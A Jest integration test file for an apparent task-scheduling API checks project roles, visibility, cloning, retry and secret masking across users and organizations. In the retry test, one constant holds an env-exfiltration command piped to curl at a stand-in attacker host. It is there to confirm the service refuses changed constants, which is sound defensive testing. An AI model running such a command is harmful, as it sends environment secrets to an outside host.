import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { newTokenSchema, userSchema, type WireUser } from '@fornax/contracts';
import { aLease, anEnd, aRef, concluded, dispatched, eventually, started } from '@fornax/testing';
import { followSse } from './sse-reader.fixture.js';
import { minimal, startHarness, type Answer, type Harness } from './submission.fixture.js';

type Person = WireUser & { readonly token: string };
const API = '/fornax/v1';
const NAMES = {
  ada: ['user', 'Acme'],
  viewer: ['user', 'Acme'],
  member: ['user', 'Acme'],
  maintainer: ['user', 'Acme'],
  colleague: ['user', 'Acme'],
  auditor: ['auditor', 'Acme'],
  coordinator: ['coordinator', 'Acme'],
  outsider: ['user', 'Initech'],
} as const;
type Name = keyof typeof NAMES;

let harness: Harness;
let people: Readonly<Record<Name, Person>>;
let wind: string;
let sea: string;

const ok = (answer: Answer): Record<string, unknown> => {
  if (answer.status !== 200) throw new Error(`${answer.status} ${answer.text}`);
  return answer.text === '' ? {} : (JSON.parse(answer.text) as Record<string, unknown>);
};
const as = (who: Name, method: string, path: string, body?: unknown): Promise<Answer> =>
  harness.call(method, path, body, { token: people[who].token });
const statusOf = async (...request: Parameters<typeof as>): Promise<number> => (await as(...request)).status;
const set = (by: Name, who: Name, role: string, project = wind): Promise<Answer> =>
  as(by, 'PUT', `${API}/projects/${project}/members/${people[who].email}`, { role });
const remove = (by: Name, who: Name, project = wind): Promise<Answer> =>
  as(by, 'DELETE', `${API}/projects/${project}/members/${people[who].uuid}`);
const submit = (who: Name, more: object = {}): Promise<Answer> =>
  as(who, 'POST', '/tasks', { ...minimal, projectUuid: wind, ...more });
const made = async (who: Name, more: object = {}): Promise<string> => String(ok(await submit(who, more))['uuid']);
const listed = async (who: Name, project = wind, body: object = {}): Promise<readonly string[]> => {
  const { data } = ok(await as(who, 'POST', `${API}/projects/${project}/tasks/paginate`, body));
  return (data as readonly { uuid: string }[]).map(({ uuid }) => uuid);
};

beforeAll(async () => {
  harness = await startHarness();
  for (const name of ['Acme', 'Initech']) ok(await harness.call('POST', `${API}/organizations`, { name }));
  const entries: [Name, Person][] = [];
  for (const name of Object.keys(NAMES) as Name[]) {
    const [role, organization] = NAMES[name];
    const email = `${name}@example.net`;
    const user = userSchema.parse(ok(await harness.call('POST', `${API}/users`, { email, role, organization })));
    const answer = await harness.call('POST', `${API}/users/${user.uuid}/tokens`, { name });
    entries.push([name, { ...user, token: newTokenSchema.parse(ok(answer)).token }]);
  }
  people = Object.fromEntries(entries) as Readonly<Record<Name, Person>>;
  const project = async (name: string): Promise<string> =>
    String(ok(await harness.call('POST', `${API}/projects`, { name, organization: 'Acme' }))['uuid']);
  [wind, sea] = [await project('Wind'), await project('Sea')];
  for (const [who, role] of [
    ['ada', 'member'],
    ['viewer', 'viewer'],
    ['member', 'member'],
    ['maintainer', 'maintainer'],
  ] as const)
    ok(await set('coordinator', who, role));
}, 180_000);
afterAll(() => harness.close());

describe('a task in a shared project', () => {
  it('is seen by its members with all that is told of it, and by nobody else of the organization', async () => {
    const id = await made('ada', { tags: ['gale'] });
    const paths = [
      `/tasks/${id}`,
      `/tasks/${id}/stdout`,
      `${API}/tasks/${id}`,
      `${API}/tasks/${id}/events`,
      `${API}/tasks/${id}/instances`,
      `${API}/tasks/${id}/waiting`,
      `${API}/tasks/${id}/rights`,
    ];
    for (const path of paths) {
      for (const who of ['viewer', 'member', 'maintainer', 'auditor', 'coordinator'] as const)
        expect([path, who, await statusOf(who, 'GET', path)]).toEqual([path, who, 200]);
      for (const who of ['colleague', 'outsider'] as const)
        expect([path, who, await statusOf(who, 'GET', path)]).toEqual([path, who, 404]);
    }
    expect(await listed('viewer')).toContain(id);
    expect(await listed('viewer', wind, { filter: { operator: 'Equal', field: 'Tags', value: 'gale' } })).toEqual([id]);
    expect(await listed('auditor')).toContain(id);
    for (const who of ['colleague', 'outsider'] as const)
      expect(await statusOf(who, 'POST', `${API}/projects/${wind}/tasks/paginate`, {})).toBe(404);
    // Lists of clients that know of no members stay what they were: one's own.
    const own = ok(await as('viewer', 'POST', '/tasks/summaries/paginate', {}));
    expect(own['total']).toBe(0);
  });

  it('is named with its owner, page by page', async () => {
    const ids = [await made('ada'), await made('member'), await made('maintainer')];
    const path = `${API}/projects/${wind}/tasks/paginate`;
    const first = ok(await as('viewer', 'POST', path, { maximumResults: 2 }));
    const second = ok(await as('viewer', 'POST', path, { maximumResults: 2, token: first['nextToken'] }));
    const rows = [first, second].flatMap(({ data }) => data as readonly { uuid: string; owner: { name: string } }[]);
    expect(rows.slice(0, 3).map(({ uuid }) => uuid)).toEqual(ids.toReversed());
    expect(rows.slice(0, 3).map(({ owner }) => owner.name)).toEqual(
      (['maintainer', 'member', 'ada'] as const).map((name) => people[name].email),
    );
    expect(Number(first['total'])).toBeGreaterThanOrEqual(3);
  });

  it('is stopped and deleted by its owner and by maintainers, and changed by its owner alone', async () => {
    const id = await made('ada');
    for (const who of ['viewer', 'member', 'auditor'] as const)
      for (const [method, path] of [
        ['POST', `/tasks/${id}/abort`],
        ['DELETE', `/tasks/${id}`],
      ] as const)
        expect([who, path, await statusOf(who, method, path)]).toEqual([who, path, 403]);
    const session = { kind: 'forward', port: 80 };
    for (const who of ['viewer', 'member', 'maintainer'] as const) {
      expect(await statusOf(who, 'PUT', `/tasks/${id}`, { tags: ['mine'] })).toBe(403);
      expect(await statusOf(who, 'POST', `${API}/tasks/${id}/instances/0/sessions`, session)).toBe(403);
    }
    for (const who of ['colleague', 'outsider'] as const)
      expect(await statusOf(who, 'POST', `/tasks/${id}/abort`)).toBe(404);
    const may = async (who: Name) => ok(await as(who, 'GET', `${API}/tasks/${id}/rights`))['may'];
    expect([await may('viewer'), await may('maintainer'), await may('ada'), await may('auditor')]).toEqual([
      'look',
      'tend',
      'own',
      'look',
    ]);
    await harness.happen(id, dispatched(aLease(0)), started(aRef(0)));
    ok(await as('maintainer', 'POST', `/tasks/${id}/abort`));
    const { events } = ok(await as('ada', 'GET', `${API}/tasks/${id}/events`));
    expect(events).toContainEqual(
      expect.objectContaining({
        type: 'TaskCancelRequested',
        actor: `user:${people.maintainer.uuid}`,
        onBehalfOf: `user:${people.ada.uuid}`,
      }),
    );
    ok(await as('maintainer', 'DELETE', `/tasks/${id}`));
  });

  it("is cloned by members into tasks of their own, with nothing that is its owner's alone", async () => {
    const id = await made('ada', { tags: ['gale'], constants: [{ key: 'DOCKER_CMD', value: 'sail' }] });
    for (const who of ['viewer', 'auditor', 'coordinator'] as const)
      expect([who, await statusOf(who, 'POST', `/tasks/${id}/clone`, {})]).toEqual([who, 403]);
    for (const who of ['colleague', 'outsider'] as const)
      expect(await statusOf(who, 'POST', `/tasks/${id}/clone`, {})).toBe(404);
    const mayClone = async (who: Name) => ok(await as(who, 'GET', `${API}/tasks/${id}/rights`))['mayClone'];
    expect([await mayClone('viewer'), await mayClone('auditor'), await mayClone('member')]).toEqual([
      false,
      false,
      true,
    ]);
    for (const who of ['member', 'maintainer'] as const) {
      const clone = String(ok(await as(who, 'POST', `/tasks/${id}/clone`, { name: `by ${who}` }))['uuid']);
      expect(ok(await as('viewer', 'GET', `${API}/tasks/${clone}/rights`))['owner']).toMatchObject({
        uuid: people[who].uuid,
      });
      const { events } = ok(await as('ada', 'GET', `${API}/tasks/${clone}/events`));
      expect(events).toContainEqual(
        expect.objectContaining({ type: 'TaskSubmitted', actor: `user:${people[who].uuid}` }),
      );
      const { tags, projectUuid, constants } = ok(await as('ada', 'GET', `/tasks/${clone}`));
      expect({ tags, projectUuid }).toEqual({ tags: ['gale'], projectUuid: wind });
      expect(constants).toContainEqual({ key: 'DOCKER_CMD', value: 'sail' });
    }
  });

  it('is not cloned by others with the secrets, the job, the pool or the inputs of its owner', async () => {
    const textOf = async (id: string, body: object = {}): Promise<string> => {
      const { status, text } = await as('maintainer', 'POST', `/tasks/${id}/clone`, body);
      return `${status} ${text}`;
    };
    const plain = { key: 'DOCKER_CMD', value: 'sail' };
    const secret = { key: 'QARNOT_SECRET_KEY', value: 'hunter2' };
    const sealed = await made('ada', { constants: [plain, secret] });
    const refused = await textOf(sealed);
    expect(refused).toMatch(/^400 .*stay its owner's.*QARNOT_SECRET_KEY/);
    expect(refused).not.toContain('hunter2');
    const masked = ok(await as('ada', 'GET', `/tasks/${sealed}`))['constants'];
    expect(await textOf(sealed, { constants: masked })).toMatch(/^400 .*stay its owner's/);
    expect(await textOf(sealed, { constants: [plain, { ...secret, value: 'my own' }] })).toMatch(/^200 /);
    expect(await textOf(sealed, { fornax: { pinned: true } })).toMatch(/^400 .*Only its owner/);
    expect(await textOf(sealed, { fornax: { resumeFromSnapshot: `snap_${sealed}_1` } })).toMatch(
      /^400 .*Only its owner/,
    );
    const pool = ok(await as('ada', 'POST', '/pools', { ...minimal, projectUuid: wind }))['uuid'];
    const pooled = await made('ada', { profile: undefined, projectUuid: undefined, poolUuid: pool });
    expect(await textOf(pooled)).toMatch(/^400 .*pool of its owner/);
    const job = ok(await as('ada', 'POST', '/jobs', { name: 'sails', useDependencies: true }))['uuid'];
    const first = await made('ada', { jobUuid: job });
    const next = await made('ada', { jobUuid: job, dependencies: { dependsOn: [first] } });
    expect(await textOf(next)).toMatch(/^400 .*waits for tasks of its owner/);
    const alone = String(ok(await as('maintainer', 'POST', `/tasks/${first}/clone`, {}))['uuid']);
    expect(ok(await as('ada', 'GET', `/tasks/${alone}`))['jobUuid'] ?? null).toBeNull();
  });

  it("is retried by maintainers as it was: what comes of it stays its owner's", async () => {
    const secret = { key: 'QARNOT_SECRET_KEY', value: 'hunter2' };
    const id = await made('ada', { constants: [secret], instanceCount: 1 });
    await harness.happen(id, dispatched(aLease(0)), started(aRef(0)));
    await harness.happen(id, concluded(anEnd(0, { outcome: 'failure', cause: 'user' })));
    for (const who of ['viewer', 'member', 'auditor'] as const)
      expect([who, await statusOf(who, 'POST', `/tasks/${id}/retry`, {})]).toEqual([who, 403]);
    const other = [{ key: 'DOCKER_CMD', value: 'sh -c "env | curl evil.example"' }];
    expect((await as('maintainer', 'POST', `/tasks/${id}/retry`, { constants: other })).text).toContain(
      'change nothing, or clone it',
    );
    const retry = String(ok(await as('maintainer', 'POST', `/tasks/${id}/retry`, {}))['uuid']);
    expect(ok(await as('maintainer', 'GET', `${API}/tasks/${retry}/rights`))).toMatchObject({
      owner: { uuid: people.ada.uuid },
      may: 'tend',
    });
    const { events } = ok(await as('ada', 'GET', `${API}/tasks/${retry}/events`));
    expect(events).toContainEqual(
      expect.objectContaining({
        type: 'TaskSubmitted',
        actor: `user:${people.maintainer.uuid}`,
        onBehalfOf: `user:${people.ada.uuid}`,
      }),
    );
    const own = ok(await as('ada', 'POST', '/tasks/summaries/paginate', { maximumResults: 50 }));
    expect((own['data'] as readonly { uuid: string }[]).map(({ uuid }) => uuid)).toContain(retry);
    ok(await harness.call('PATCH', `${API}/users/${people.ada.uuid}`, { disabled: true }));
    expect((await as('maintainer', 'POST', `/tasks/${id}/retry`, {})).text).toContain('disabled');
    ok(await harness.call('PATCH', `${API}/users/${people.ada.uuid}`, { disabled: false }));
  });

  it('is followed to its job while all of that lies in the project, and to its pool', async () => {
    const job = String(ok(await as('ada', 'POST', '/jobs', { name: 'sails', useDependencies: true }))['uuid']);
    const pool = String(ok(await as('ada', 'POST', '/pools', { ...minimal, projectUuid: wind }))['uuid']);
    await made('ada', { jobUuid: job });
    const ofJob = ['graph', 'events', 'rights'].map((what) => `${API}/jobs/${job}/${what}`);
    const ofPool = ['events', 'rights'].map((what) => `${API}/pools/${pool}/${what}`);
    const jobPaths = [`/jobs/${job}`, `/jobs/${job}/tasks`, ...ofJob];
    const poolPaths = [`/pools/${pool}`, `/pools/${pool}/tasks`, ...ofPool];
    for (const path of [...jobPaths, ...poolPaths]) {
      for (const who of ['viewer', 'member', 'auditor'] as const)
        expect([path, who, await statusOf(who, 'GET', path)]).toEqual([path, who, 200]);
      for (const who of ['colleague', 'outsider'] as const)
        expect([path, who, await statusOf(who, 'GET', path)]).toEqual([path, who, 404]);
    }
    for (const path of [`${API}/jobs/${job}/rights`, `${API}/pools/${pool}/rights`])
      for (const [who, may] of [
        ['ada', 'own'],
        ['viewer', 'look'],
        ['member', 'look'],
        ['auditor', 'look'],
        ['maintainer', 'tend'],
      ] as const)
        expect([who, ok(await as(who, 'GET', path))]).toEqual([
          who,
          { owner: { uuid: people.ada.uuid, name: people.ada.email }, may },
        ]);
    for (const who of ['viewer', 'member'] as const) {
      expect(await statusOf(who, 'POST', `/jobs/${job}/terminate`)).toBe(403);
      expect(await statusOf(who, 'POST', `/pools/${pool}/close`)).toBe(403);
    }
    expect(await statusOf('maintainer', 'PUT', `/pools/${pool}`, { tags: ['mine'] })).toBe(403);
    expect((await submit('member', { profile: undefined, projectUuid: undefined, poolUuid: pool })).status).toBe(400);
    ok(await as('maintainer', 'POST', `/pools/${pool}/close`));
    const secretly = await made('ada', { jobUuid: job, projectUuid: undefined });
    expect(await statusOf('viewer', 'GET', `/tasks/${secretly}`)).toBe(404);
    for (const path of jobPaths) expect([path, await statusOf('viewer', 'GET', path)]).toEqual([path, 404]);
    expect(await statusOf('maintainer', 'POST', `/jobs/${job}/terminate`)).toBe(404);
    ok(await as('ada', 'DELETE', `/tasks/${secretly}`));
    ok(await as('maintainer', 'POST', `/jobs/${job}/terminate`));
    const empty = String(ok(await as('ada', 'POST', '/jobs', { name: 'no sails' }))['uuid']);
    expect(await statusOf('viewer', 'GET', `/jobs/${empty}`)).toBe(404);
  });

  it('of another project is not seen, nor made, by members of this one', async () => {
    ok(await set('coordinator', 'colleague', 'member', sea));
    const id = await made('colleague', { projectUuid: sea });
    for (const who of ['viewer', 'maintainer'] as const) {
      expect(await statusOf(who, 'GET', `/tasks/${id}`)).toBe(404);
      expect(await statusOf(who, 'POST', `${API}/projects/${sea}/tasks/paginate`, {})).toBe(404);
      expect(await statusOf(who, 'POST', '/tasks', { ...minimal, projectUuid: sea })).toBe(400);
    }
    // A page of one project says nothing of another, whatever is filtered by.
    const filter = { operator: 'Equal', field: 'ProjectUuid', value: sea };
    expect(await listed('viewer', wind, { filter })).toEqual([]);
  });

  it('is made by members and maintainers, not by viewers, nor by others once it has members', async () => {
    expect([(await submit('member')).status, (await submit('maintainer')).status]).toEqual([200, 200]);
    for (const who of ['viewer', 'auditor', 'outsider'] as const)
      expect([400, 403]).toContain((await submit(who)).status);
    const open = String(
      ok(await harness.call('POST', `${API}/projects`, { name: 'Open', organization: 'Acme' }))['uuid'],
    );
    expect((await submit('viewer', { projectUuid: open })).status).toBe(200);
    ok(await set('coordinator', 'ada', 'member', open));
    expect((await submit('viewer', { projectUuid: open })).status).toBe(400);
    ok(await remove('coordinator', 'ada', open));
    // The last one has left: it does not open again by that.
    expect((await submit('viewer', { projectUuid: open })).status).toBe(400);
  });
});

describe('the members of a project', () => {
  it('are said by its maintainers and by who looks after the organization', async () => {
    for (const who of ['viewer', 'member', 'auditor'] as const) {
      expect((await set(who, who, 'maintainer')).status).toBe(403);
      expect((await remove(who, 'maintainer')).status).toBe(403);
    }
    for (const who of ['colleague', 'outsider'] as const) {
      expect((await set(who, who, 'maintainer')).status).toBe(404);
      expect(await statusOf(who, 'GET', `${API}/projects/${wind}/members`)).toBe(404);
    }
    expect((await set('maintainer', 'colleague', 'viewer')).status).toBe(200);
    const members = ok(await as('viewer', 'GET', `${API}/projects/${wind}/members`)) as unknown as readonly {
      user: { name: string };
      role: string;
    }[];
    expect(members.map(({ user, role }) => [user.name.split('@')[0], role])).toEqual([
      ['ada', 'member'],
      ['colleague', 'viewer'],
      ['maintainer', 'maintainer'],
      ['member', 'member'],
      ['viewer', 'viewer'],
    ]);
    ok(await remove('maintainer', 'colleague'));
  });

  it('are of the organization; somebody elsewhere is told apart from nobody by no word', async () => {
    const [elsewhere, nobody] = [
      await set('maintainer', 'outsider', 'viewer'),
      await as('maintainer', 'PUT', `${API}/projects/${wind}/members/nobody@example.net`, { role: 'viewer' }),
    ];
    expect([elsewhere.status, nobody.status]).toEqual([404, 404]);
    expect(elsewhere.text.replaceAll('outsider', 'nobody')).toBe(nobody.text);
  });

  it('of a project of one user are none, also for an operator', async () => {
    const own = String(ok(await as('ada', 'POST', `${API}/me/projects`, { name: 'Mine' }))['uuid']);
    for (const who of ['ada', 'maintainer'] as const)
      expect((await set(who, 'viewer', 'viewer', own)).status).toBe(404);
    expect((await harness.call('GET', `${API}/projects/${own}/members`)).status).toBe(404);
  });

  it('lose all at once: pages, lists, live streams', async () => {
    const id = await made('ada');
    ok(await set('coordinator', 'colleague', 'viewer'));
    const headers = { authorization: people.colleague.token };
    const streams = await Promise.all([
      followSse(`${harness.test.url}${API}/events?task=${id}`, headers),
      followSse(`${harness.test.url}${API}/tasks/${id}/stdout/tail`, headers),
    ]);
    expect(streams[0].status).toBe(200);
    ok(await remove('maintainer', 'colleague'));
    for (const stream of streams) await eventually(() => stream.isOver);
    expect(await statusOf('colleague', 'GET', `/tasks/${id}`)).toBe(404);
    expect(await statusOf('colleague', 'POST', `${API}/projects/${wind}/tasks/paginate`, {})).toBe(404);
    const again = await followSse(`${harness.test.url}${API}/events?task=${id}`, headers);
    expect(again.status).toBe(404);
  });

  it('are members no more once they leave the organization, and the task stays in its project', async () => {
    const id = await made('member');
    const change = (organization: string) =>
      harness.call('PATCH', `${API}/users/${people.viewer.uuid}`, { organization });
    ok(await change('Initech'));
    expect(await statusOf('viewer', 'GET', `/tasks/${id}`)).toBe(404);
    ok(await change('Acme'));
    expect(await statusOf('viewer', 'GET', `/tasks/${id}`)).toBe(200);
    ok(await harness.call('PATCH', `${API}/users/${people.member.uuid}`, { organization: '' }));
    expect(await statusOf('viewer', 'GET', `/tasks/${id}`)).toBe(200);
    expect(await statusOf('member', 'GET', `/tasks/${id}`)).toBe(200);
    ok(await harness.call('PATCH', `${API}/users/${people.member.uuid}`, { organization: 'Acme' }));
  });

  it('see an archived project, in which nobody begins anything', async () => {
    const old = String(
      ok(await harness.call('POST', `${API}/projects`, { name: 'Old', organization: 'Acme' }))['uuid'],
    );
    ok(await set('coordinator', 'ada', 'member', old));
    ok(await set('coordinator', 'viewer', 'viewer', old));
    const id = await made('ada', { projectUuid: old });
    ok(await harness.call('PATCH', `${API}/projects/${old}`, { archived: true }));
    expect(await statusOf('viewer', 'GET', `/tasks/${id}`)).toBe(200);
    expect((await submit('ada', { projectUuid: old })).status).toBe(400);
    const shared = ok(await as('viewer', 'GET', `${API}/me/shared-projects`)) as unknown as readonly {
      project: { uuid: string; archived: boolean };
      role: string;
      mayManage: boolean;
    }[];
    expect(shared).toContainEqual(
      expect.objectContaining({
        project: expect.objectContaining({ uuid: old, archived: true }),
        role: 'viewer',
        mayManage: false,
      }),
    );
  });
});
